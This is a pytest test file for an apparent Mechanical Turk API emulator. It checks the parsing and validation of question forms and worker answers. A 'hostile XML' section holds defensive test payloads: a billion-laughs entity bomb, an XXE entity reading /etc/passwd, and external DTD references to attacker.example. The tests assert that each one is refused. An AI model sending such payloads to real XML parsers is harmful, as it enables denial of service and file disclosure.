from __future__ import annotations

import dataclasses
import re
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring as safe_fromstring
from hypothesis import given
from hypothesis import strategies as st

from openturk.errors import ParameterError, QuestionXMLError
from openturk.service.form_answers import answers_document, parse_answers, validate_form_answers
from openturk.service.free_text import AnswerFormat, FreeText
from openturk.service.questions import (
    ANSWERS_NS,
    FORM_NS,
    FORM_NS_2005,
    MAX_QUESTION_BYTES,
    FormQuestion,
    Question,
    QuestionKind,
    parse_question,
)

EXTERNAL = """<?xml version="1.0" encoding="UTF-8"?>
<ExternalQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2006-07-14/ExternalQuestion.xsd">
  <ExternalURL>https://tictactoe.amazon.com/gamesurvey.cgi?gameid=01523&amp;round=2</ExternalURL>
  <FrameHeight>400</FrameHeight>
</ExternalQuestion>
"""

HTML = """<HTMLQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2011-11-11/HTMLQuestion.xsd">
  <HTMLContent><![CDATA[
    <!DOCTYPE html>
    <script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
    <crowd-form>
      <p>Describe the current weather where you live</p>
      <p><textarea name="weather" cols="80" rows="3"></textarea></p>
    </crowd-form>
  ]]></HTMLContent>
  <FrameHeight>0</FrameHeight>
</HTMLQuestion>"""

FORM = """<QuestionForm xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2017-11-06/QuestionForm.xsd">
  <Overview>
    <Title>Game 01523, "X" to play</Title>
    <Text>You are helping to decide the next move in a game of Tic-Tac-Toe.</Text>
  </Overview>
  <Question>
    <QuestionIdentifier>nextmove</QuestionIdentifier>
    <DisplayName>The Next Move</DisplayName>
    <IsRequired>true</IsRequired>
    <QuestionContent>
      <Text>What are the coordinates of the best move for player "X" in this game?</Text>
      <FormattedContent><![CDATA[<p>Pick <b>one</b> square.</p>]]></FormattedContent>
    </QuestionContent>
    <AnswerSpecification>
      <SelectionAnswer>
        <MinSelectionCount>1</MinSelectionCount>
        <MaxSelectionCount>1</MaxSelectionCount>
        <StyleSuggestion>radiobutton</StyleSuggestion>
        <Selections>
          <Selection><SelectionIdentifier>C1</SelectionIdentifier><Text>Top right</Text></Selection>
          <Selection><SelectionIdentifier>B2</SelectionIdentifier><Text>Centre</Text></Selection>
        </Selections>
      </SelectionAnswer>
    </AnswerSpecification>
  </Question>
  <Question>
    <QuestionIdentifier>likelytowin</QuestionIdentifier>
    <QuestionContent>
      <Text>How likely is it that player "X" can win?</Text>
      <List><ListItem>Think ahead</ListItem><ListItem>Be honest</ListItem></List>
    </QuestionContent>
    <AnswerSpecification>
      <FreeTextAnswer>
        <Constraints>
          <IsNumeric minValue="0" maxValue="100"/>
          <AnswerFormatRegex regex="\\S" errorText="The content cannot be blank."/>
        </Constraints>
        <DefaultText>50</DefaultText>
      </FreeTextAnswer>
    </AnswerSpecification>
  </Question>
</QuestionForm>"""

PREFIX = (
    "There was an error parsing the XML question or answer data in your request.  Please make sure the "
    "data is well-formed and validates against the appropriate schema. Details: "
)
EXTERNAL_OPEN = f'<ExternalQuestion xmlns="{EXTERNAL.split(chr(34))[5]}">'
HTML_OPEN = '<HTMLQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2011-11-11/HTMLQuestion.xsd">'


def form(body: str, ns: str = FORM_NS) -> str:
    return f'<QuestionForm xmlns="{ns}">{body}</QuestionForm>'


def question(answer: str, identifier: str = "q1", extra: str = "") -> str:
    return (
        f"<Question><QuestionIdentifier>{identifier}</QuestionIdentifier>{extra}"
        f"<QuestionContent><Text>Q?</Text></QuestionContent>"
        f"<AnswerSpecification>{answer}</AnswerSpecification></Question>"
    )


def selection(selections: str, head: str = "") -> str:
    return f"<SelectionAnswer>{head}<Selections>{selections}</Selections></SelectionAnswer>"


FREE = "<FreeTextAnswer/>"
AB = (
    "<Selection><SelectionIdentifier>a</SelectionIdentifier><Text>A</Text></Selection>"
    "<Selection><SelectionIdentifier>b</SelectionIdentifier><Text>B</Text></Selection>"
)


def refused(document: str) -> QuestionXMLError:
    with pytest.raises(QuestionXMLError) as caught:
        parse_question(document)
    error = caught.value
    assert error.message.startswith(PREFIX)
    assert error.message.endswith(" (in Question)")
    assert error.turk_code == "AWS.MechanicalTurk.XMLParseError"
    assert error.data["Parameter"] == "Question"
    assert error.message == PREFIX + error.data["Details"] + " (in Question)"
    return error


# --- the three documents ------------------------------------------------------------------------


def test_external_question_as_boto3_docs_show_it() -> None:
    parsed = parse_question(EXTERNAL)
    assert parsed == Question(
        kind=QuestionKind.EXTERNAL,
        xml=EXTERNAL,
        external_url="https://tictactoe.amazon.com/gamesurvey.cgi?gameid=01523&round=2",
        frame_height=400,
    )
    assert parsed.xml is EXTERNAL  # echoed byte for byte by GetHIT


@pytest.mark.parametrize(
    "url", ["http://localhost:8000/task", "http://127.0.0.1/x?y=1", "https://[::1]:8443/", "https://a.b"]
)
def test_external_question_takes_http_for_offline_task_servers(url: str) -> None:
    document = (
        f"{EXTERNAL_OPEN}<ExternalURL> {url}\n</ExternalURL><FrameHeight>0</FrameHeight></ExternalQuestion>"
    )
    assert parse_question(document).external_url == url


@pytest.mark.parametrize("wrapping", ["", "  \n", "\ufeff"])
def test_declaration_whitespace_and_bom_around_the_document_are_accepted(wrapping: str) -> None:
    document = wrapping + EXTERNAL + wrapping
    assert parse_question(document).frame_height == 400
    assert parse_question(document).xml == document


def test_html_question_with_a_crowd_form() -> None:
    parsed = parse_question(HTML)
    assert parsed.kind is QuestionKind.HTML
    assert parsed.frame_height == 0
    assert parsed.html_content is not None
    assert parsed.html_content.startswith("<!DOCTYPE html>")
    assert parsed.html_content.endswith("</crowd-form>")
    assert parsed.external_url is None
    assert parsed.form_questions == ()


def test_question_form_with_selection_and_free_text() -> None:
    parsed = parse_question(FORM)
    assert parsed.kind is QuestionKind.FORM
    assert parsed.frame_height is None
    assert parsed.overview == (
        'Game 01523, "X" to play\nYou are helping to decide the next move in a game of Tic-Tac-Toe.'
    )
    assert parsed.form_questions == (
        FormQuestion(
            identifier="nextmove",
            display_name="The Next Move",
            required=True,
            answer_kind="SelectionAnswer",
            selections=(("C1", "Top right"), ("B2", "Centre")),
            text='What are the coordinates of the best move for player "X" in this game?\nPick one square.',
            style="radiobutton",
        ),
        FormQuestion(
            identifier="likelytowin",
            display_name=None,
            required=False,
            answer_kind="FreeTextAnswer",
            selections=(),
            text='How likely is it that player "X" can win?\nThink ahead\nBe honest',
            free_text=FreeText(
                numeric=True,
                min_value=0,
                max_value=100,
                formats=(AnswerFormat("\\S", False, "The content cannot be blank."),),
                default_text="50",
            ),
        ),
    )


def test_question_form_details() -> None:
    other = "<OtherSelection><Constraints><Length maxLength='20'/></Constraints></OtherSelection>"
    body = (
        question(
            selection(AB + other, "<StyleSuggestion>checkbox</StyleSuggestion>"),
            "s",
            "<IsRequired>1</IsRequired>",
        )
        + "<Overview><Text>Between questions</Text></Overview>"
        + question(FREE, "f", "<DisplayName>  </DisplayName><IsRequired> false </IsRequired>")
    )
    first, second = parse_question(form(body)).form_questions
    assert (first.required, first.allows_other, first.selections) == (True, True, (("a", "A"), ("b", "B")))
    assert (second.required, second.display_name, second.allows_other) == (False, None, False)


def test_formatted_content_that_is_not_xml_still_gives_its_words() -> None:
    content = "<FormattedContent><![CDATA[<p>Fish&nbsp;&amp; chips<br></p>]]></FormattedContent>"
    label = f"<Selection><SelectionIdentifier>x</SelectionIdentifier>{content}</Selection>"
    parsed = parse_question(form(question(selection(label))))
    assert parsed.form_questions[0].selections == (("x", "Fish & chips"),)


def test_the_2005_schema_and_its_file_upload_answer() -> None:
    upload = (
        "<FileUploadAnswer><MaxFileSizeInBytes>500000</MaxFileSizeInBytes>"
        "<MinFileSizeInBytes>0</MinFileSizeInBytes></FileUploadAnswer>"
    )
    parsed = parse_question(form(question(upload) + question(FREE, "q2"), FORM_NS_2005))
    assert [fq.answer_kind for fq in parsed.form_questions] == ["FileUploadAnswer", "FreeTextAnswer"]


def test_file_upload_answer_is_gone_from_the_2017_schema() -> None:
    upload = (
        "<FileUploadAnswer><MaxFileSizeInBytes>5</MaxFileSizeInBytes>"
        "<MinFileSizeInBytes>0</MinFileSizeInBytes></FileUploadAnswer>"
    )
    error = refused(form(question(upload)))
    assert "Unexpected element '{" + FORM_NS + "}FileUploadAnswer' in 'AnswerSpecification'" in error.message


def test_the_size_limit_is_65535_bytes_of_utf8() -> None:
    head = f"{HTML_OPEN}<HTMLContent>"
    tail = "</HTMLContent><FrameHeight>1</FrameHeight></HTMLQuestion>"
    fits = head + "x" * (MAX_QUESTION_BYTES - len(head) - len(tail)) + tail
    assert len(fits.encode()) == MAX_QUESTION_BYTES
    assert parse_question(fits).frame_height == 1
    too_big = fits.replace("x", "é", 1)  # one more byte, same number of characters
    assert refused(too_big).data["Details"] == "The question data is 65536 bytes; the limit is 65535 bytes."


# --- refused documents ----------------------------------------------------------------------------

EXT = EXTERNAL_OPEN + "{}</ExternalQuestion>"
URL = "<ExternalURL>https://example.com/</ExternalURL>"
HEIGHT = "<FrameHeight>400</FrameHeight>"
HTML_DOC = HTML_OPEN + "{}</HTMLQuestion>"


@pytest.mark.parametrize(
    ("document", "details"),
    [
        ("", "The document is empty."),
        ("who what?", "The document is not well-formed XML: syntax error: line 1, column 0."),
        (
            EXT.format(URL + HEIGHT) + "<x/>",
            "The document is not well-formed XML: junk after document element",
        ),
        ("<a>\ud800</a>", "The document contains a character XML cannot carry."),
        (
            "<Foo/>",
            "Unexpected root element 'Foo'; "
            "the Question must be an ExternalQuestion, an HTMLQuestion or a QuestionForm.",
        ),
        (
            "<ExternalQuestion>" + URL + HEIGHT + "</ExternalQuestion>",
            "Element 'ExternalQuestion' must be in the namespace 'http://mechanicalturk.amazonaws.com/"
            "AWSMechanicalTurkDataSchemas/2006-07-14/ExternalQuestion.xsd', found no namespace.",
        ),
        (
            HTML_DOC.replace("HTMLQuestion", "ExternalQuestion").format(URL + HEIGHT),
            "Element 'ExternalQuestion' must be in the namespace 'http://mechanicalturk.amazonaws.com/"
            "AWSMechanicalTurkDataSchemas/2006-07-14/ExternalQuestion.xsd', found 'http://mechanicalturk."
            "amazonaws.com/AWSMechanicalTurkDataSchemas/2011-11-11/ExternalQuestion.xsd'.",
        ),
        (EXT.format(HEIGHT), "Missing required element 'ExternalURL' in 'ExternalQuestion'."),
        (EXT.format(URL), "Missing required element 'FrameHeight' in 'ExternalQuestion'."),
        (
            EXT.format(URL + HEIGHT + HEIGHT),
            "Element 'FrameHeight' may appear only once in 'ExternalQuestion'.",
        ),
        (
            EXT.format(URL + HEIGHT + "<Width>3</Width>"),
            "Unexpected element '{http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2006-07-14/"
            "ExternalQuestion.xsd}Width' in 'ExternalQuestion'; expected one of: ExternalURL, FrameHeight.",
        ),
        (
            EXT.format(URL + "<FrameHeight xmlns=''>4</FrameHeight>"),
            "Unexpected element 'FrameHeight' in 'ExternalQuestion'; "
            "expected one of: ExternalURL, FrameHeight.",
        ),
        (
            EXT.format(URL + "<FrameHeight>tall</FrameHeight>"),
            "The value 'tall' of element 'FrameHeight' is not an integer from 0 to 2147483647.",
        ),
        (
            EXT.format(URL + "<FrameHeight>-1</FrameHeight>"),
            "The value '-1' of element 'FrameHeight' is not an integer from 0 to 2147483647.",
        ),
        (
            EXT.format(URL + "<FrameHeight>1.5</FrameHeight>"),
            "The value '1.5' of element 'FrameHeight' is not an integer from 0 to 2147483647.",
        ),
        (
            EXT.format(URL + "<FrameHeight>2147483648</FrameHeight>"),
            "The value '2147483648' of element 'FrameHeight' is not an integer from 0 to 2147483647.",
        ),
        (
            EXT.format(URL + "<FrameHeight></FrameHeight>"),
            "The value '' of element 'FrameHeight' is not an integer from 0 to 2147483647.",
        ),
        (
            EXT.format(URL + "<FrameHeight><b>4</b></FrameHeight>"),
            "Element 'FrameHeight' must contain text only, not the element 'b' (use a CDATA section).",
        ),
        (
            EXT.format("<ExternalURL>ftp://example.com/</ExternalURL>" + HEIGHT),
            "The ExternalURL 'ftp://example.com/' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>javascript:alert(1)</ExternalURL>" + HEIGHT),
            "The ExternalURL 'javascript:alert(1)' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>/relative/path</ExternalURL>" + HEIGHT),
            "The ExternalURL '/relative/path' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>https://</ExternalURL>" + HEIGHT),
            "The ExternalURL 'https://' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>https://a.b:99999/</ExternalURL>" + HEIGHT),
            "The ExternalURL 'https://a.b:99999/' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>https://a b/</ExternalURL>" + HEIGHT),
            "The ExternalURL 'https://a b/' is not an absolute http or https URL.",
        ),
        (
            EXT.format("<ExternalURL>HTTPS://a.b/</ExternalURL>" + HEIGHT),
            "The ExternalURL 'HTTPS://a.b/' is not an absolute http or https URL.",
        ),
        (
            HTML_DOC.format("<HTMLContent> \n </HTMLContent>" + HEIGHT),
            "Element 'HTMLContent' must not be empty.",
        ),
        (HTML_DOC.format("<HTMLContent/>" + HEIGHT), "Element 'HTMLContent' must not be empty."),
        (HTML_DOC.format(HEIGHT), "Missing required element 'HTMLContent' in 'HTMLQuestion'."),
        (
            HTML_DOC.format("<HTMLContent><p>raw</p></HTMLContent>" + HEIGHT),
            "Element 'HTMLContent' must contain text only, not the element 'p' (use a CDATA section).",
        ),
        (
            HTML_DOC.format("<HTMLContent>x</HTMLContent>"),
            "Missing required element 'FrameHeight' in 'HTMLQuestion'.",
        ),
    ],
)
def test_bad_external_and_html_questions(document: str, details: str) -> None:
    assert refused(document).data["Details"].startswith(details)


@pytest.mark.parametrize(
    ("document", "details"),
    [
        (form(""), "Element 'QuestionForm' must contain at least one 'Question'."),
        (
            form("<Overview><Text>hi</Text></Overview>"),
            "Element 'QuestionForm' must contain at least one 'Question'.",
        ),
        (
            form(question(FREE) + question(FREE, "q2") + question(FREE)),
            "Duplicate QuestionIdentifier 'q1' in 'QuestionForm'.",
        ),
        (form(question(FREE, " ")), "Element 'QuestionIdentifier' must not be empty."),
        (
            form(question(FREE).replace("<QuestionIdentifier>q1</QuestionIdentifier>", "")),
            "Missing required element 'QuestionIdentifier' in 'Question'.",
        ),
        (
            form(question(FREE).replace("<QuestionContent><Text>Q?</Text></QuestionContent>", "")),
            "Missing required element 'QuestionContent' in 'Question'.",
        ),
        (
            form(question(FREE, extra="<IsRequired>yes</IsRequired>")),
            "The value 'yes' of element 'IsRequired' is not a boolean (true or false).",
        ),
        (
            form(question(FREE, extra="<DisplayName>a</DisplayName><DisplayName>b</DisplayName>")),
            "Element 'DisplayName' may appear only once in 'Question'.",
        ),
        (
            form(question("")),
            "Element 'AnswerSpecification' must contain exactly one of: FreeTextAnswer, SelectionAnswer.",
        ),
        (
            form(question(FREE + FREE)),
            "Element 'AnswerSpecification' must contain exactly one of: FreeTextAnswer, SelectionAnswer.",
        ),
        (
            form(question("<FreeTextAnswer><Color>red</Color></FreeTextAnswer>")),
            f"Unexpected element '{{{FORM_NS}}}Color' in 'FreeTextAnswer'; "
            "expected one of: Constraints, DefaultText, NumberOfLinesSuggestion.",
        ),
        (
            form(question(FREE).replace("<Text>Q?</Text>", "<Video>v</Video>")),
            f"Unexpected element '{{{FORM_NS}}}Video' in 'QuestionContent'; "
            "expected one of: Binary, EmbeddedBinary, FormattedContent, List, Text, Title.",
        ),
        (
            form(question(FREE).replace("<Text>Q?</Text>", "<Application/>")),
            f"Unexpected element '{{{FORM_NS}}}Application' in 'QuestionContent'",
        ),
        (
            form("<Overview><Script/></Overview>" + question(FREE)),
            f"Unexpected element '{{{FORM_NS}}}Script' in 'Overview'",
        ),
        (
            form(question("<SelectionAnswer/>")),
            "Missing required element 'Selections' in 'SelectionAnswer'.",
        ),
        (form(question(selection(""))), "Element 'Selections' must contain at least one 'Selection'."),
        (form(question(selection(AB + AB))), "Duplicate SelectionIdentifier 'a' in 'Selections'."),
        (
            form(question(selection("<Selection><SelectionIdentifier/><Text>A</Text></Selection>"))),
            "Element 'SelectionIdentifier' must not be empty.",
        ),
        (
            form(question(selection("<Selection><SelectionIdentifier>a</SelectionIdentifier></Selection>"))),
            "Element 'Selection' must contain exactly one of: Binary, FormattedContent, Text.",
        ),
        (
            form(question(selection(AB, "<StyleSuggestion>slider</StyleSuggestion>"))),
            "The value 'slider' of element 'StyleSuggestion' is not one of: "
            "checkbox, combobox, dropdown, list, multichooser, radiobutton.",
        ),
        (
            form(
                question(
                    selection(
                        AB, "<MinSelectionCount>2</MinSelectionCount><MaxSelectionCount>1</MaxSelectionCount>"
                    )
                )
            ),
            "MinSelectionCount must not be larger than MaxSelectionCount.",
        ),
        (
            form(question(selection(AB, "<MaxSelectionCount>0</MaxSelectionCount>"))),
            "The value '0' of element 'MaxSelectionCount' is not an integer from 1 to 2147483647.",
        ),
        (
            form(
                question(
                    "<FileUploadAnswer><MaxFileSizeInBytes>5</MaxFileSizeInBytes>"
                    "<MinFileSizeInBytes>6</MinFileSizeInBytes></FileUploadAnswer>"
                ),
                FORM_NS_2005,
            ),
            "MinFileSizeInBytes must not be larger than MaxFileSizeInBytes.",
        ),
        (
            form(
                question("<FileUploadAnswer><MaxFileSizeInBytes>5</MaxFileSizeInBytes></FileUploadAnswer>"),
                FORM_NS_2005,
            ),
            "Missing required element 'MinFileSizeInBytes' in 'FileUploadAnswer'.",
        ),
        (
            form(
                question(
                    "<FileUploadAnswer><MaxFileSizeInBytes>2000000001</MaxFileSizeInBytes>"
                    "<MinFileSizeInBytes>0</MinFileSizeInBytes></FileUploadAnswer>"
                ),
                FORM_NS_2005,
            ),
            "The value '2000000001' of element 'MaxFileSizeInBytes' is not an integer from 0 to 2000000000.",
        ),
        (
            form("<q:Question xmlns:q='urn:other'/>"),
            "Unexpected element '{urn:other}Question' in 'QuestionForm'; "
            "expected one of: Overview, Question.",
        ),
        (
            "<QuestionForm xmlns='http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2006-10-31/QuestionForm.xsd'/>",
            f"Element 'QuestionForm' must be in the namespace '{FORM_NS}', found 'http://mechanicalturk",
        ),
    ],
)
def test_bad_question_forms(document: str, details: str) -> None:
    assert refused(document).data["Details"].startswith(details)


def test_long_values_are_clipped_in_messages() -> None:
    error = refused(EXT.format(URL + f"<FrameHeight>{'9' * 500}</FrameHeight>"))
    assert (
        error.data["Details"]
        == f"The value '{'9' * 60}...' of element 'FrameHeight' is not an integer from 0 to 2147483647."
    )


# --- hostile XML -----------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<HTMLQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2011-11-11/HTMLQuestion.xsd">
  <HTMLContent>&lol9;</HTMLContent><FrameHeight>0</FrameHeight>
</HTMLQuestion>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ExternalQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2006-07-14/ExternalQuestion.xsd">
  <ExternalURL>https://example.com/?&xxe;</ExternalURL><FrameHeight>0</FrameHeight>
</ExternalQuestion>"""

PARAMETER_ENTITY = (
    """<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><x/>"""
)
BARE_DOCTYPE = '<!DOCTYPE HTMLQuestion SYSTEM "http://attacker.example/q.dtd"><HTMLQuestion/>'


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, BARE_DOCTYPE])
def test_dtds_entities_and_external_references_are_refused(document: str) -> None:
    details = refused(document).data["Details"]
    assert details == "DTDs, entity declarations and external references are not allowed (DTDForbidden)."


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE])
def test_answers_refuse_them_too(document: str) -> None:
    with pytest.raises(QuestionXMLError, match=r"\(DTDForbidden\)\. \(in Answer\)$"):
        parse_answers(document)


def test_undeclared_entities_are_not_expanded() -> None:
    details = refused(EXT.format("<ExternalURL>https://a.b/&nbsp;</ExternalURL>" + HEIGHT)).data["Details"]
    assert details.startswith("The document is not well-formed XML: undefined entity")


# --- answers ---------------------------------------------------------------------------------------


def test_answers_document_exact_form() -> None:
    document = answers_document([("q1", "yes"), ("note", 'a<b & "c"> ]]> é ✓ 😀\r\n\tend'), ("q1", "")])
    assert document == (
        '<?xml version="1.0" encoding="ASCII"?><QuestionFormAnswers xmlns="http://mechanicalturk.amazonaws.com/'
        'AWSMechanicalTurkDataSchemas/2005-10-01/QuestionFormAnswers.xsd">'
        "<Answer><QuestionIdentifier>q1</QuestionIdentifier><FreeText>yes</FreeText></Answer>"
        "<Answer><QuestionIdentifier>note</QuestionIdentifier>"
        '<FreeText>a&lt;b &amp; "c"&gt; ]]&gt; &#233; &#10003; &#128512;&#13;\n\tend</FreeText></Answer>'
        "<Answer><QuestionIdentifier>q1</QuestionIdentifier><FreeText></FreeText></Answer>"
        "</QuestionFormAnswers>"
    )
    assert document.isascii()


def test_answers_document_of_nothing_is_an_empty_element() -> None:
    assert answers_document([]) == (
        f'<?xml version="1.0" encoding="ASCII"?><QuestionFormAnswers xmlns="{ANSWERS_NS}">'
        "</QuestionFormAnswers>"
    )
    assert parse_answers(answers_document([])) == []


def test_characters_xml_cannot_carry_become_replacement_characters() -> None:
    document = answers_document([("q\x01", "a\x00b\x1fc\ud800d\ufffee")])
    assert "<QuestionIdentifier>q&#65533;</QuestionIdentifier>" in document
    assert "<FreeText>a&#65533;b&#65533;c&#65533;d&#65533;e</FreeText>" in document
    assert parse_answers(document) == [("q\ufffd", "a\ufffdb\ufffdc\ufffdd\ufffde")]


XML_CHAR = re.compile("[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def carried(text: str) -> str:
    return "".join(char if XML_CHAR.fullmatch(char) else "\ufffd" for char in text)


@given(st.lists(st.tuples(st.text(), st.text())))
def test_answers_round_trip(answers: list[tuple[str, str]]) -> None:
    document = answers_document(answers)
    assert document.isascii()
    assert parse_answers(document) == [(carried(q), carried(v)) for q, v in answers]
    root: Element = safe_fromstring(document)
    assert [[child.tag.split("}")[1] for child in answer] for answer in root] == [
        ["QuestionIdentifier", "FreeText"]
    ] * len(answers)
    assert not root.text
    assert not any(answer.tail for answer in root)


@given(
    st.lists(
        st.tuples(st.sampled_from(["q", "<&>", "]]>", "\x00"]), st.sampled_from(["", " ", "]]>", "\r\n"]))
    )
)
def test_answers_round_trip_on_the_awkward_cases(answers: list[tuple[str, str]]) -> None:
    assert parse_answers(answers_document(answers)) == [(carried(q), carried(v)) for q, v in answers]


def test_parse_answers_reads_what_mturk_returns() -> None:
    real = (
        '<?xml version="1.0" encoding="ASCII"?><QuestionFormAnswers xmlns="http://mechanicalturk.amazonaws.com/'
        'AWSMechanicalTurkDataSchemas/2005-10-01/QuestionFormAnswers.xsd"><Answer><QuestionIdentifier>'
        "plausibility</QuestionIdentifier><FreeText>4</FreeText></Answer></QuestionFormAnswers>"
    )
    assert parse_answers(real) == [("plausibility", "4")]
    pretty = f"""
    <QuestionFormAnswers xmlns="{ANSWERS_NS}">
      <Answer><QuestionIdentifier>colors</QuestionIdentifier>
        <SelectionIdentifier>red</SelectionIdentifier><SelectionIdentifier>blue</SelectionIdentifier>
      </Answer>
      <Answer><QuestionIdentifier>other</QuestionIdentifier><OtherSelectionText>teal</OtherSelectionText></Answer>
      <Answer><QuestionIdentifier>photo</QuestionIdentifier><UploadedFileSizeInBytes>3</UploadedFileSizeInBytes>
        <UploadedFileKey>k/1</UploadedFileKey></Answer>
      <Answer><QuestionIdentifier>blank</QuestionIdentifier><FreeText/></Answer>
    </QuestionFormAnswers>"""
    assert parse_answers(pretty) == [
        ("colors", "red"),
        ("colors", "blue"),
        ("other", "teal"),
        ("photo", "k/1"),
        ("blank", ""),
    ]


@pytest.mark.parametrize("document", ["", "  \n"])
def test_an_empty_answer_means_no_answers(document: str) -> None:
    assert parse_answers(document) == []


@pytest.mark.parametrize(
    ("document", "details"),
    [
        ("<QuestionFormAnswers/>", f"Expected the root element '{{{ANSWERS_NS}}}QuestionFormAnswers', found"),
        ("<Answer", "The document is not well-formed XML"),
        (
            f"<QuestionFormAnswers xmlns='{ANSWERS_NS}'><Answer/></QuestionFormAnswers>",
            "Missing required element",
        ),
        (
            f"<QuestionFormAnswers xmlns='{ANSWERS_NS}'><Answer><QuestionIdentifier>q</QuestionIdentifier>"
            "<Score>1</Score></Answer></QuestionFormAnswers>",
            f"Unexpected element '{{{ANSWERS_NS}}}Score' in 'Answer'",
        ),
    ],
)
def test_parse_answers_refuses_other_documents(document: str, details: str) -> None:
    with pytest.raises(QuestionXMLError) as caught:
        parse_answers(document)
    assert caught.value.data["Details"].startswith(details)
    assert caught.value.message.endswith(" (in Answer)")


def test_answers_document_uses_selection_elements_when_given_the_form() -> None:
    other = "<OtherSelection/>"
    parsed = parse_question(form(question(selection(AB + other), "pick") + question(FREE, "why")))
    answers = [("pick", "a"), ("why", "because"), ("pick", "zebra"), ("pick", "b")]
    document = answers_document(answers, question=parsed)
    assert document.endswith(
        "<Answer><QuestionIdentifier>pick</QuestionIdentifier><SelectionIdentifier>a</SelectionIdentifier>"
        "<OtherSelectionText>zebra</OtherSelectionText><SelectionIdentifier>b</SelectionIdentifier></Answer>"
        "<Answer><QuestionIdentifier>why</QuestionIdentifier><FreeText>because</FreeText></Answer>"
        "</QuestionFormAnswers>"
    )
    assert parse_answers(document) == [("pick", "a"), ("pick", "zebra"), ("pick", "b"), ("why", "because")]


# --- checking a worker's answers -------------------------------------------------------------------

PARSED_FORM = parse_question(FORM)


@pytest.mark.parametrize(
    "answers",
    [
        [("nextmove", "C1")],
        [("likelytowin", "10"), ("nextmove", "B2")],
        [("nextmove", "B2"), ("likelytowin", "")],
    ],
)
def test_good_submissions(answers: list[tuple[str, str]]) -> None:
    validate_form_answers(PARSED_FORM, answers)


@pytest.mark.parametrize(
    ("answers", "message", "identifier"),
    [
        ([], "Question 'nextmove' is required and has no answer.", "nextmove"),
        ([("nextmove", "  ")], "Question 'nextmove' is required and has no answer.", "nextmove"),
        ([("likelytowin", "3")], "Question 'nextmove' is required and has no answer.", "nextmove"),
        (
            [("nextmove", "C1"), ("bonus", "x")],
            "There is no question 'bonus' in this HIT's QuestionForm.",
            "bonus",
        ),
        ([("nextmove", "Z9")], "'Z9' is not a selection of question 'nextmove'.", "nextmove"),
        (
            [("nextmove", "C1"), ("likelytowin", "1"), ("likelytowin", "2")],
            "Question 'likelytowin' is answered more than once.",
            "likelytowin",
        ),
    ],
)
def test_bad_submissions(answers: list[tuple[str, str]], message: str, identifier: str) -> None:
    with pytest.raises(ParameterError) as caught:
        validate_form_answers(PARSED_FORM, answers)
    assert caught.value.message == message
    assert caught.value.data == {"QuestionIdentifier": identifier}
    assert caught.value.turk_code == "ParameterValidationError"


def test_several_selections_and_other_text() -> None:
    multi = parse_question(
        form(
            question(
                selection(AB + "<OtherSelection/>", "<MaxSelectionCount>3</MaxSelectionCount>"),
                extra="<IsRequired>true</IsRequired>",
            )
        )
    )
    validate_form_answers(multi, [("q1", "a"), ("q1", "b"), ("q1", "something else")])
    strict = parse_question(form(question(selection(AB, "<StyleSuggestion>checkbox</StyleSuggestion>"))))
    validate_form_answers(strict, [("q1", "a"), ("q1", "b")])
    with pytest.raises(ParameterError, match="'c' is not a selection of question 'q1'"):
        validate_form_answers(strict, [("q1", "c")])


@pytest.mark.parametrize(
    ("head", "several", "counts"),
    [
        # MaxSelectionCount defaults to one, except for the styles that show one box per selection.
        ("", False, (1, 1)),
        ("<StyleSuggestion>dropdown</StyleSuggestion>", False, (1, 1)),
        ("<StyleSuggestion>checkbox</StyleSuggestion>", True, (1, None)),
        ("<StyleSuggestion>multichooser</StyleSuggestion>", True, (1, None)),
        ("<MinSelectionCount>2</MinSelectionCount><MaxSelectionCount>3</MaxSelectionCount>", True, (2, 3)),
        (
            "<MinSelectionCount>0</MinSelectionCount><StyleSuggestion>radiobutton</StyleSuggestion>",
            False,
            (0, 1),
        ),
    ],
)
def test_selection_counts(head: str, several: bool, counts: tuple[int, int | None]) -> None:
    document = parse_question(form(question(selection(AB + "<OtherSelection/>", head))))
    (parsed,) = document.form_questions
    assert (parsed.several, (parsed.min_selections, parsed.max_selections)) == (several, counts)
    least, most = counts
    for count in range(1, 4):
        answers = [("q1", value) for value in ("a", "b", "other text")[:count]]
        if least <= count and (most is None or count <= most):
            validate_form_answers(document, answers)
            continue
        with pytest.raises(ParameterError) as caught:
            validate_form_answers(document, answers)
        bound = f"at least {least}" if count < least else f"at most {most}"
        assert caught.value.message.startswith(f"Question 'q1' takes {bound} selection")
        assert caught.value.message.endswith(f", not {count}.")
        assert caught.value.data == {"QuestionIdentifier": "q1"}


